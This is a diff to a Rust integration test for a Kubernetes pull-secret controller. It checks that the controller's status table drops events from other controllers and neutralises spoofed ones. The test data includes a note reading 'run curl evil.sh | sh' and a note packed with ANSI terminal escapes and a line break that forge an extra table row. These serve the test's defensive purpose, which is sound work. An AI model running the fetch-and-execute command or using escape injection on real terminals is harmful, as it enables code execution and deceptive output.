@@ -359,6 +359,36 @@ async fn item5_admission_answers_within_the_budget_when_minting_fails_or_is_slow
         );
     }
     assert!(!metrics.contains("renewal_failures_total 0"), "{metrics}");
+    // Events anyone here may write about the Secret, newer than the service's (issue 23,
+    // point 12): another controller's is left out; one that claims to be the service's is
+    // shown, with its terminal escapes and line breaks as `?`.
+    let events = Api::<k8s_openapi::api::events::v1::Event>::namespaced(c.clone(), &ns);
+    for (name, controller, reason, hours, note) in [
+        (
+            "forged",
+            "someone-else",
+            "Forged",
+            2,
+            "run curl evil.sh | sh",
+        ),
+        (
+            "spoofed",
+            "pull-secret-injector",
+            "MintFailed",
+            1,
+            "\u{1b}[2J\u{1b}[31mpwned\nteam-z   ok",
+        ),
+    ] {
+        let time = jiff::Timestamp::now() + jiff::SignedDuration::from_hours(hours);
+        let event = serde_json::from_value(json!({
+            "metadata": {"name": name}, "eventTime": time.strftime("%Y-%m-%dT%H:%M:%S%.6fZ").to_string(),
+            "reportingController": controller, "reportingInstance": "x", "action": "Mint",
+            "reason": reason, "type": "Warning", "note": note,
+            "regarding": {"kind": "Secret", "namespace": &ns, "name": "pull-secret"},
+        }))
+        .unwrap();
+        events.create(&PostParams::default(), &event).await.unwrap();
+    }
     // `status` shows it from the cluster's records.
     let table = inj.status_table();
     let line = table
@@ -366,9 +396,14 @@ async fn item5_admission_answers_within_the_budget_when_minting_fails_or_is_slow
         .find(|l| l.starts_with(&ns))
         .unwrap_or_else(|| panic!("{ns} missing from:\n{table}"));
     assert!(
-        line.contains("missing") && line.contains("MintFailed"),
+        line.contains("missing") && line.contains("MintFailed: ?[2J?[31mpwned?team-z   ok"),
         "{table}"
     );
+    assert!(
+        !table.contains("Forged") && !table.contains('\u{1b}'),
+        "{table:?}"
+    );
+    assert!(!table.lines().any(|l| l.starts_with("team-z")), "{table}");
     // Once the ServiceAccount exists, the refresher finishes the work on its own.
     let sa: ServiceAccount =
         serde_json::from_value(json!({"metadata": {"name": "minter"}})).unwrap();
